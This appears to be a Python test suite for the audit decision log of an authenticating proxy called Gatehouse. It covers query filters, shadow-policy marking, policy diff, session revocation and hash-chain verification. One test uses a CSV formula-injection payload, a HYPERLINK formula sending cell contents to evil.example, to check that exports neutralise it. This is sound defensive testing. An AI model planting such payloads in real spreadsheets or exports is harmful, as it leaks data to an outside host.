"""The decision log as an auditor reads it, over the real binary, the real
OpenID Provider (alice: eng, admins; bob: sales) and real requests:

- `policy diff` against byte-identical copies of the running policies reports
  no change although the log holds the sign-in flow's records;
- a shadow-mode route lets alice through (200) while its policy says deny: the
  record, `audit query` (text, JSON, CSV) and `policy diff` show both what the
  shadow policy said and what was enforced;
- every `audit query` filter (--user in its spellings, --path, --ip, --rule,
  --idp, --decision, --kind, combined) against the same predicate in Python;
- `--format csv`: header, RFC 4180 quoting, formula cells neutralised;
- `sessions revoke` (server running, under load, and server stopped) leaves an
  admin record that `audit query` shows and `audit verify` accepts; `sessions
  --user` takes the same spellings as `audit query --user`.
Python stdlib only.
"""
import csv
import io
import json
import os
import pwd
import shutil
import subprocess
import tempfile
import threading
import time
import unittest

from harness import Backend, Gatehouse, basic_config, free_port, gatehouse_bin, read_jsonl, \
    to_yaml, wait_until
from oidc import CLIENT_SECRET, IdP, Browser, client_for, idp_conf

APP_POLICY = ("rules:\n"
              "  - id: admins-only-admin\n    effect: deny\n"
              "    when: {all: [{path: {prefix: /admin}}, {not: {groups: {contains: admins}}}]}\n"
              "    reason: Only admins may open the admin area.\n"
              "  - id: eng\n    effect: allow\n    when: {groups: {contains: eng}}\n"
              "  - id: sales-reports\n    effect: allow\n"
              "    when: {all: [{groups: {contains: sales}}, {path: {prefix: /docs}}]}\n")
# The next reports policy, tried in shadow mode: only finance will get in.
REPORTS_SHADOW = ("mode: shadow\n"
                  "rules:\n"
                  "  - id: finance-only\n    effect: allow\n"
                  "    when: {groups: {contains: finance}}\n")

_IDP = None
_PORTS = {}


def setUpModule():
    global _IDP
    for name in ("main", "admin"):
        _PORTS[name] = free_port()
    bases = [f"http://127.0.0.1:{p}" for p in _PORTS.values()]
    client = client_for(bases[0])
    client.pop("backchannel_logout_uri", None)
    for b in bases[1:]:
        client["redirect_uris"].append(f"{b}/.gatehouse/oidc/callback")
        client["post_logout_redirect_uris"].append(f"{b}/.gatehouse/signed-out")
    _IDP = IdP([client])


def tearDownModule():
    if _IDP:
        _IDP.stop()


def run(*args, check=None, env=None):
    e = dict(os.environ)
    e.update(env or {})
    p = subprocess.run([gatehouse_bin(), *args], capture_output=True, text=True, timeout=60,
                       env=e)
    if check is not None and p.returncode != check:
        raise AssertionError("%s -> %d\n%s%s" % (args, p.returncode, p.stdout, p.stderr))
    return p


def start(port, backend):
    up = {"servers": [backend.url]}
    cfg = basic_config(
        [{"name": "pub", "match": {"path_prefix": "/pub/"}, "public": True, "upstream": up},
         {"name": "reports", "match": {"path_prefix": "/reports/"},
          "policy": "reports.yaml", "upstream": up},
         {"name": "app", "policy": "app.yaml", "upstream": up}],
        listen=[{"address": f"127.0.0.1:{port}"}],
        state={"sqlite": "var/gatehouse.db"},
        identity_providers=[idp_conf(_IDP)],
        decision_log={"file": "var/decisions.jsonl", "flush_interval": "20ms"},
    )
    return Gatehouse(cfg, files={"oidc-secret": CLIENT_SECRET, "app.yaml": APP_POLICY,
                                 "reports.yaml": REPORTS_SHADOW})


def sign_in(port, user):
    b = Browser()
    r = b.login(f"http://127.0.0.1:{port}", "/start", user=user)
    if r.status not in (200, 403):
        raise AssertionError(r)
    b.accept = "application/json"
    return b


def rid_of(resp):
    return resp.header("X-Request-Id")


def records(gh):
    return read_jsonl(os.path.join(gh.dir, "var", "decisions.jsonl"))


def query(gh, *args):
    p = run("audit", "query", "-c", gh.config_path, "--json", *args, check=0)
    return [json.loads(line) for line in p.stdout.splitlines()]


class AuditTrail(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.backend = Backend("app")
        cls.port = _PORTS["main"]
        cls.base = f"http://127.0.0.1:{cls.port}"
        cls.gh = start(cls.port, cls.backend)
        cls.alice = sign_in(cls.port, "alice")
        cls.bob = sign_in(cls.port, "bob")
        cls.rids = {}
        for name, who, path in (("alice-doc", cls.alice, "/docs/1"),
                                ("alice-admin", cls.alice, "/admin/users"),
                                ("bob-admin", cls.bob, "/admin"),
                                ("bob-administrator", cls.bob, "/administrator"),
                                ("bob-docs", cls.bob, "/docs/2"),
                                ("bob-other", cls.bob, "/other"),
                                ("alice-shadow", cls.alice, "/reports/q3"),
                                ("anon-pub", Browser(accept="application/json"), "/pub/x"),
                                ("anon-login", Browser(accept="application/json"), "/docs/3")):
            r = who.request(cls.base + path)
            cls.rids[name] = (rid_of(r), r.status)
        want = {rid for rid, _ in cls.rids.values()}
        ok = wait_until(lambda: want <= {r["request_id"] for r in records(cls.gh)}, timeout=10)
        assert ok, "records missing"
        cls.all = query(cls.gh)

    @classmethod
    def tearDownClass(cls):
        cls.gh.cleanup()
        cls.backend.stop()

    def rec(self, name):
        rid = self.rids[name][0]
        return next(r for r in self.all if r["request_id"] == rid)

    # -- issue 10.2: policy diff replays only policy decisions

    def copy_policies(self):
        d = tempfile.mkdtemp(prefix="gh-newpol-")
        self.addCleanup(shutil.rmtree, d, True)
        for f in ("app.yaml", "reports.yaml"):
            shutil.copyfile(os.path.join(self.gh.dir, f), os.path.join(d, f))
        return d

    def test_identical_policies_diff_reports_no_change(self):
        signins = [r for r in self.all if r["rule"] == "sign-in" and r["user"]]
        self.assertGreaterEqual({r["user"] for r in signins}, {"alice", "bob"},
                                "the log must hold the sign-in records this test is about")
        d = run("policy", "diff", "-c", self.gh.config_path, "--new", self.copy_policies(),
                "--since", "1h", check=0)
        self.assertNotIn("GAINS", d.stdout)
        self.assertNotIn("LOSES", d.stdout)
        self.assertRegex(d.stdout, r"replayed [1-9]\d* decisions: 0 \(user, route\) pairs gain "
                                   r"access, 0 lose access\n")
        # Skipping the sign-in records hides no real change.
        d = self.copy_policies()
        with open(os.path.join(d, "app.yaml"), "w") as f:
            f.write(APP_POLICY.replace("contains: eng", "contains: nobody"))
        out = run("policy", "diff", "-c", self.gh.config_path, "--new", d, "--since", "1h",
                  check=0).stdout
        self.assertRegex(out, r"LOSES  route app +alice ")
        self.assertNotIn("GAINS", out)
        self.assertNotIn('by "sign-in"', out)

    # -- issue 10.3: shadow decisions are marked

    def test_shadow_decision_is_marked_in_record_json_text_csv(self):
        rid, status = self.rids["alice-shadow"]
        self.assertEqual(status, 200)
        rec = self.rec("alice-shadow")
        self.assertEqual((rec["decision"], rec["rule"]), ("deny", "default-deny"), rec)
        self.assertEqual((rec["shadow"], rec["enforced"], rec["kind"]), (True, "allow", "policy"))
        # Not shadowed: decision and enforced agree.
        self.assertEqual((self.rec("bob-admin")["decision"], self.rec("bob-admin")["enforced"],
                          self.rec("bob-admin")["shadow"]), ("deny", "deny", False))
        self.assertEqual(self.rec("anon-login")["enforced"], "login")
        text = run("audit", "query", "-c", self.gh.config_path, "--route", "reports",
                   check=0).stdout.splitlines()
        self.assertIn("ENFORCED", text[0])
        line = [l for l in text[1:] if "/reports/q3" in l]
        self.assertEqual(len(line), 1, text)
        self.assertRegex(line[0], r" deny +allow \(shadow\) +reports +alice +default-deny ")
        rows = list(csv.DictReader(io.StringIO(
            run("audit", "query", "-c", self.gh.config_path, "--route", "reports", "--format",
                "csv", check=0).stdout, newline="")))
        row = next(r for r in rows if r["request_id"] == rid)
        self.assertEqual((row["decision"], row["enforced"], row["shadow"], row["rule"]),
                         ("deny", "allow", "true", "default-deny"))
        # The marks are inside the hash chain: editing one is caught.
        v = run("audit", "verify", "-c", self.gh.config_path)
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)

    def test_shadow_marks_cannot_be_edited(self):
        d = tempfile.mkdtemp(prefix="gh-shadow-copy-")
        self.addCleanup(shutil.rmtree, d, True)
        dst = os.path.join(d, "gh")
        shutil.copytree(self.gh.dir, dst)
        import sqlite3
        db = sqlite3.connect(os.path.join(dst, "var", "gatehouse.db"))
        seq = self.rec("alice-shadow")["seq"]
        db.execute("UPDATE decisions SET enforced='deny' WHERE seq=?", (seq,))
        db.commit()
        db.close()
        v = run("audit", "verify", "-c", os.path.join(dst, "gatehouse.yaml"), check=1)
        self.assertIn("FAIL sqlite: record %d (request %s) was edited" %
                      (seq, self.rids["alice-shadow"][0]), v.stdout)

    def test_policy_diff_marks_shadow_decisions(self):
        d = self.copy_policies()
        with open(os.path.join(d, "reports.yaml"), "w") as f:
            f.write(REPORTS_SHADOW.replace("finance", "eng"))
        out = run("policy", "diff", "-c", self.gh.config_path, "--new", d, "--since", "1h",
                  check=0).stdout
        self.assertRegex(out, r'GAINS  route reports +alice +.*was deny by "default-deny" '
                              r'\(shadow policy; enforced allow\), now allow by "eng-only" '
                              r'\(shadow policy: not enforced\)')

    # -- issue 10.4: filters

    def test_every_filter_matches_its_definition(self):
        def seg(p, pre):
            return p is not None and (p == pre or p.startswith(pre + "/"))

        cases = [
            (("--user", "alice"), lambda r: r["user"] == "alice", True),
            (("--user", "corp:alice"), lambda r: r["user"] == "alice", True),
            (("--user", "ALICE@Example.COM"), lambda r: r["email"] == "alice@example.com", True),
            (("--user", "other:alice"), lambda r: False, False),
            (("--user", "ali"), lambda r: False, False),
            (("--path", "/admin"), lambda r: seg(r["path"], "/admin"), True),
            (("--path", "/admin/"), lambda r: (r["path"] or "").startswith("/admin/"), True),
            (("--path", "/admin*"), lambda r: (r["path"] or "").startswith("/admin"), True),
            (("--ip", "127.0.0.0/8"), lambda r: (r["client_ip"] or "").startswith("127."), True),
            (("--ip", "127.0.0.1"), lambda r: r["client_ip"] == "127.0.0.1", True),
            (("--ip", "10.0.0.0/8"), lambda r: False, False),
            (("--ip", "::1/128"), lambda r: False, False),
            (("--ip", "::ffff:127.0.0.0/104"), lambda r: (r["client_ip"] or "").startswith("127."),
             True),
            (("--rule", "admins-only-admin"), lambda r: r["rule"] == "admins-only-admin", True),
            (("--idp", "corp"), lambda r: r["idp"] == "corp", True),
            (("--idp", "nope"), lambda r: False, False),
            (("--decision", "deny"), lambda r: r["decision"] == "deny", True),
            (("--kind", "signin"), lambda r: r["kind"] == "signin", True),
            (("--kind", "policy"), lambda r: r["kind"] == "policy", True),
            (("--user", "bob", "--path", "/admin", "--decision", "deny"),
             lambda r: r["user"] == "bob" and seg(r["path"], "/admin") and r["decision"] == "deny",
             True),
        ]
        upto = max(r["seq"] for r in self.all)
        for args, pred, nonempty in cases:
            with self.subTest(args=args):
                got = [r["seq"] for r in query(self.gh, *args) if r["seq"] <= upto]
                want = [r["seq"] for r in self.all if pred(r)]
                self.assertEqual(got, want)
                self.assertEqual(bool(want), nonempty, want)
        # The segment rule in words: /admin is not /administrator.
        paths = {r["path"] for r in query(self.gh, "--path", "/admin")}
        self.assertIn("/admin", paths)
        self.assertNotIn("/administrator", paths)
        # --limit keeps the newest matches, oldest first; --format json is --json.
        lim = query(self.gh, "--user", "bob", "--limit", "2")
        allbob = query(self.gh, "--user", "bob")
        self.assertEqual([r["seq"] for r in lim], [r["seq"] for r in allbob][-2:])
        j = run("audit", "query", "-c", self.gh.config_path, "--format", "json", "--user", "bob",
                check=0)
        self.assertEqual([json.loads(l)["seq"] for l in j.stdout.splitlines()],
                         [r["seq"] for r in allbob])

    def test_bad_filter_values_are_refused(self):
        for args, msg in ((("--ip", "10.0.0.0/33"), "bad --ip"), (("--ip", "nope"), "bad --ip"),
                          (("--format", "xml"), "--format must be"),
                          (("--path", "admin"), "--path must start with /"),
                          (("--kind", "x"), "--kind must be")):
            with self.subTest(args=args):
                p = run("audit", "query", "-c", self.gh.config_path, *args, check=2)
                self.assertIn(msg, p.stderr)

    def test_csv_is_rfc4180_and_neutralises_formulas(self):
        out = run("audit", "query", "-c", self.gh.config_path, "--format", "csv",
                  check=0).stdout
        lines = out.split("\r\n")
        self.assertTrue(lines[0].startswith("seq,ts,kind,decision,enforced,shadow,route,rule,"))
        rows = list(csv.reader(io.StringIO(out, newline="")))
        self.assertEqual(len(rows) - 1, len(query(self.gh)))
        hdr = rows[0]
        for row in rows[1:]:
            self.assertEqual(len(row), len(hdr))
        deny = next(r for r in rows[1:] if r[hdr.index("request_id")] ==
                    self.rids["bob-admin"][0])
        self.assertEqual(deny[hdr.index("reason")], "Only admins may open the admin area.")
        self.assertEqual(deny[hdr.index("groups")], '["sales"]')


class AdminRecords(unittest.TestCase):
    """sessions revoke is an administrative act in the decision log."""

    @classmethod
    def setUpClass(cls):
        cls.backend = Backend("app")
        cls.port = _PORTS["admin"]
        cls.base = f"http://127.0.0.1:{cls.port}"
        cls.gh = start(cls.port, cls.backend)

    @classmethod
    def tearDownClass(cls):
        cls.gh.cleanup()
        cls.backend.stop()

    def verify_ok(self):
        v = run("audit", "verify", "-c", self.gh.config_path)
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)
        self.assertIn("decision log OK", v.stdout)

    def test_revocations_while_serving_under_load_are_chained_and_verify(self):
        before = {r["seq"] for r in query(self.gh, "--kind", "admin")}
        bob = sign_in(self.port, "bob")
        alice = sign_in(self.port, "alice")
        # The server stores a new session on its writer thread: wait until bob's is
        # in the database, so that the revocation below counts it.
        self.assertTrue(wait_until(lambda: run("sessions", "list", "-c", self.gh.config_path,
                                               "--user", "bob@example.com").stdout.count("\n")
                                   > 1, timeout=15))
        stop = threading.Event()
        statuses = []

        def load():
            while not stop.is_set():
                statuses.append(alice.request(self.base + "/docs/load").status)

        t = threading.Thread(target=load)
        t.start()
        try:
            self.assertTrue(wait_until(lambda: len(statuses) >= 3, timeout=10))  # load runs
            outs = []
            for who in ("BOB@example.com", "corp:nobody", "nobody2", "corp:bob"):
                outs.append(run("sessions", "revoke", "-c", self.gh.config_path, "--user", who,
                                check=0, env={"SSH_CONNECTION": "2001:db8::7 50000 ::1 22"}))
            time.sleep(0.3)
        finally:
            stop.set()
            t.join()
        self.assertIn(200, statuses)
        self.assertEqual(outs[0].stdout.splitlines()[0], "revoked 1 session(s)")
        for o in outs:
            self.assertEqual(o.stdout.count("\n"), 1, o.stdout)
            self.assertRegex(o.stderr, r"logged as decision record [1-9]\d* \(admin-[0-9a-f]{16}\)")
        # The revocation took effect (the server polls it).
        self.assertTrue(wait_until(lambda: bob.request(self.base + "/docs/1").status == 401,
                                   timeout=5))
        adm = [r for r in query(self.gh, "--kind", "admin") if r["seq"] not in before]
        self.assertEqual(len(adm), 4, adm)
        first = adm[0]
        self.assertEqual((first["decision"], first["rule"], first["kind"]),
                         ("admin", "session.revoke", "admin"))
        self.assertEqual(first["admin"]["action"], "session.revoke")
        self.assertEqual(first["admin"]["target"], "user BOB@example.com")
        me = pwd.getpwuid(os.getuid()).pw_name
        self.assertEqual(first["admin"]["actor"].split(" ")[0],
                         os.environ.get("SUDO_USER") or me)
        self.assertIn("host ", first["admin"]["from"])
        self.assertIn("ssh 2001:db8::7", first["admin"]["from"])
        self.assertEqual(first["client_ip"], "2001:db8::7")
        self.assertEqual(first["reason"], "revoked 1 session(s)")
        self.assertIsNone(first["enforced"])
        # The admin records sit inside the chain, between the request records.
        seqs = [r["seq"] for r in records(self.gh)]
        self.assertEqual(seqs, list(range(1, len(seqs) + 1)))
        self.assertGreater(seqs[-1], adm[-1]["seq"])
        self.verify_ok()
        # audit query shows them: --user (the email in any case), --ip over IPv6, text.
        self.assertEqual([r["seq"] for r in query(self.gh, "--user", "bob@EXAMPLE.com",
                                                  "--decision", "admin")], [first["seq"]])
        self.assertEqual([r["seq"] for r in query(self.gh, "--ip", "2001:db8::/32")
                          if r["seq"] not in before], [r["seq"] for r in adm])
        self.assertEqual(query(self.gh, "--ip", "2001:db9::/32"), [])
        text = run("audit", "query", "-c", self.gh.config_path, "--decision", "admin",
                   check=0).stdout.splitlines()
        self.assertRegex("\n".join(text[1:]), r" admin +- +- +BOB@example.com +session\.revoke "
                                               r"+- +user BOB@example.com by \S+")

    def test_revocation_with_the_server_stopped_is_chained_by_the_tool(self):
        self.gh.stop()
        try:
            # An unknown id is an error (exit 1), and nothing was revoked.
            o = run("sessions", "revoke", "-c", self.gh.config_path, "--id", "0123abcd",
                    check=1)
            self.assertIn("no such session", o.stderr)
            o = run("sessions", "revoke", "-c", self.gh.config_path, "--user", "carol@example.com",
                    check=0)
            self.assertRegex(o.stderr, r"logged as decision record [1-9]\d*")
            self.verify_ok()
            adm = query(self.gh, "--kind", "admin", "--limit", "1")
            self.assertEqual(adm[0]["admin"]["target"], "user carol@example.com")
        finally:
            self.gh.proc = subprocess.Popen(
                [gatehouse_bin(), "serve", "-c", self.gh.config_path],
                stdout=open(self.gh.stderr_path, "ab"), stderr=subprocess.STDOUT, cwd=self.gh.dir)
            self.gh.wait_ready()
        # The server continues the chain after the tool's record.
        r = Browser(accept="application/json").request(self.base + "/pub/after")
        self.assertTrue(wait_until(lambda: any(x["request_id"] == rid_of(r)
                                               for x in records(self.gh)), timeout=10))
        self.verify_ok()

    def test_csv_neutralises_formula_cells(self):
        # An id an attacker could get into a cell ("=..." / "@...") is written inert.
        run("sessions", "revoke", "-c", self.gh.config_path, "--user",
            '=HYPERLINK("http://evil.example/?"&A1,"x")', check=0)
        run("sessions", "revoke", "-c", self.gh.config_path, "--user", "@SUM(1+1)", check=0)
        out = run("audit", "query", "-c", self.gh.config_path, "--kind", "admin", "--format",
                  "csv", check=0).stdout
        rows = list(csv.DictReader(io.StringIO(out, newline="")))
        users = [r["user"] for r in rows]
        emails = [r["email"] for r in rows]
        self.assertIn("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", users)
        self.assertIn("'@SUM(1+1)", emails)
        for r in rows:
            for v in r.values():
                self.assertFalse(v[:1] in ("=", "+", "-", "@"), (v, r))

    def test_sessions_user_takes_the_audit_spellings(self):
        sign_in(self.port, "alice")
        for who in ("alice", "corp:alice", "ALICE@example.com"):
            with self.subTest(who=who):
                p = run("sessions", "list", "-c", self.gh.config_path, "--json", "--user", who,
                        check=0)
                rows = [json.loads(l) for l in p.stdout.splitlines()]
                self.assertTrue(rows, p.stdout + p.stderr)
                self.assertEqual({r["email"] for r in rows}, {"alice@example.com"})
        for who in ("ali", "lice@example.com", "corp:ali"):
            p = run("sessions", "list", "-c", self.gh.config_path, "--json", "--user", who,
                    check=0)
            self.assertEqual(p.stdout, "", who)
        # An IdP that is not configured is a mistake worth saying (exit 1), not "nobody".
        p = run("sessions", "list", "-c", self.gh.config_path, "--json", "--user", "other:alice",
                check=1)
        self.assertIn('no identity provider "other"', p.stderr)


if __name__ == "__main__":
    unittest.main()


# The schema and record bytes of format 1, as Gatehouse wrote them before kind,
# enforced and admin existed.
V1_SCHEMA = (
    "CREATE TABLE decisions(seq INTEGER PRIMARY KEY, ts_us INTEGER NOT NULL, request_id TEXT,"
    " route TEXT, decision TEXT, rule TEXT, reason TEXT, user TEXT, email TEXT, groups TEXT,"
    " claims TEXT, idp TEXT, session TEXT, device_present INTEGER, device_id TEXT,"
    " device_owner TEXT, device_trusted INTEGER, client_ip TEXT, method TEXT, host TEXT,"
    " path TEXT, shadow INTEGER, opa_called INTEGER, opa_result TEXT, opa_ms INTEGER,"
    " latency_us INTEGER, prev_hash TEXT NOT NULL, hash TEXT NOT NULL);"
    "CREATE INDEX decisions_ts ON decisions(ts_us);"
    "CREATE TABLE decision_log_meta(key TEXT PRIMARY KEY, value TEXT);")


def v1_line(seq, ts_us, prev, rid, route, decision, rule, reason, user, groups, path):
    import datetime
    import hashlib
    ts = datetime.datetime.fromtimestamp(ts_us / 1e6, datetime.timezone.utc)
    rec = [("v", 1), ("seq", seq), ("ts", ts.strftime("%Y-%m-%dT%H:%M:%S.") +
                                      "%06dZ" % (ts_us % 1000000)),
           ("request_id", rid), ("route", route), ("decision", decision), ("rule", rule),
           ("reason", reason), ("user", user), ("email", user and user + "@example.com"),
           ("groups", groups), ("claims", {}), ("idp", user and "corp"), ("session", None),
           ("device", {"present": False, "id": None, "owner": None, "trusted": False}),
           ("client_ip", "127.0.0.1"), ("method", "GET"), ("host", "127.0.0.1"),
           ("path", path), ("shadow", False),
           ("opa", {"called": False, "result": None, "ms": 0}), ("latency_us", 5),
           ("prev_hash", prev)]
    canon = "{" + ",".join(json.dumps(k) + ":" + json.dumps(v, separators=(",", ":"))
                           for k, v in rec)
    h = hashlib.sha256((prev + canon + "}").encode()).hexdigest()
    return canon + ',"hash":"%s"}' % h, h, dict(rec)


class UpgradeFromFormat1(unittest.TestCase):
    """A log written before format 2: read, verified, replayed and continued."""

    def test_format1_log_is_read_verified_and_continued(self):
        import sqlite3
        d = tempfile.mkdtemp(prefix="gh-v1-")
        self.addCleanup(shutil.rmtree, d, True)
        db = sqlite3.connect(os.path.join(d, "gh.db"))
        db.executescript(V1_SCHEMA)
        prev, lines = "0" * 64, []
        now = int(time.time() * 1e6) - 60_000_000
        rows = [("s1", "app", "login", "sign-in", "signed in", "alice", ["eng"],
                 "/.gatehouse/oidc/callback"),
                ("r2", "app", "allow", "eng", "Allowed.", "alice", ["eng"], "/doc"),
                ("r3", "app", "deny", "default-deny", "No rule allows this request.", "bob",
                 ["sales"], "/doc")]
        for i, (rid, route, dec, rule, reason, user, groups, path) in enumerate(rows, 1):
            line, h, rec = v1_line(i, now + i, prev, rid, route, dec, rule, reason, user,
                                   groups, path)
            db.execute("INSERT INTO decisions VALUES(?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,"
                       "?,?,?,?,?,?,?)",
                       (i, now + i, rid, route, dec, rule, reason, user, rec["email"],
                        json.dumps(groups, separators=(",", ":")), "{}", rec["idp"], None, 0,
                        None, None, 0, "127.0.0.1", "GET", "127.0.0.1", path, 0, 0, None, 0, 5,
                        prev, h))
            lines.append(line + "\n")
            prev = h
        db.commit()
        db.close()
        with open(os.path.join(d, "d.jsonl"), "w") as f:
            f.writelines(lines)
        with open(os.path.join(d, "app.yaml"), "w") as f:
            f.write("rules:\n  - id: eng\n    effect: allow\n    when: {groups: eng}\n")
        cfg = os.path.join(d, "gatehouse.yaml")
        port = free_port()
        with open(os.path.join(d, "oidc-secret"), "w") as f:
            f.write(CLIENT_SECRET)
        up = {"servers": ["http://127.0.0.1:9"]}
        with open(cfg, "w") as f:
            f.write(to_yaml(basic_config(
                [{"name": "pub", "match": {"path_prefix": "/pub/"}, "public": True,
                  "upstream": up},
                 {"name": "app", "policy": "app.yaml", "upstream": up}],
                listen=[{"address": f"127.0.0.1:{port}"}], state={"sqlite": "gh.db"},
                identity_providers=[idp_conf(_IDP)],
                decision_log={"file": "d.jsonl", "flush_interval": "20ms"})))
        # Read-only commands work on it as it is (no writer has added the columns yet).
        v = run("audit", "verify", "-c", cfg, check=0)
        self.assertIn("sqlite: 3 records verified", v.stdout)
        got = [json.loads(l) for l in run("audit", "query", "-c", cfg, "--json",
                                          check=0).stdout.splitlines()]
        self.assertEqual(lines, [json.dumps(r, separators=(",", ":")) + "\n" for r in got])
        self.assertEqual(run("audit", "query", "-c", cfg, "--json", "--kind", "signin",
                             check=0).stdout.count("\n"), 1)
        newpol = os.path.join(d, "new")
        os.mkdir(newpol)
        shutil.copyfile(os.path.join(d, "app.yaml"), os.path.join(newpol, "app.yaml"))
        diff = run("policy", "diff", "-c", cfg, "--new", newpol, "--since", "1h", check=0).stdout
        self.assertIn("replayed 2 decisions: 0 (user, route) pairs gain access, 0 lose access",
                      diff)
        # The server continues the chain in format 2; a tool adds an admin record.
        proc = subprocess.Popen([gatehouse_bin(), "serve", "-c", cfg], cwd=d,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            def served():
                try:
                    return Browser().request(f"http://127.0.0.1:{port}/pub/x").status >= 500
                except OSError:
                    return False
            self.assertTrue(wait_until(served, timeout=10))
            r = run("sessions", "revoke", "-c", cfg, "--user", "bob", check=0)
            self.assertIn("logged as decision record", r.stderr)
            self.assertTrue(wait_until(lambda: len(read_jsonl(os.path.join(d, "d.jsonl"))) >= 5,
                                       timeout=10))
        finally:
            proc.terminate()
            proc.wait(timeout=10)
        recs = read_jsonl(os.path.join(d, "d.jsonl"))
        self.assertEqual([r["v"] for r in recs[:3]], [1, 1, 1])
        # New records are format 3: the node that chained them is in the hashed bytes.
        self.assertTrue(all(r["v"] == 3 and r["node"] for r in recs[3:]), recs[3:])
        self.assertEqual(recs[-1]["kind"], "admin")
        v = run("audit", "verify", "-c", cfg, check=0)
        self.assertIn("decision log OK", v.stdout)
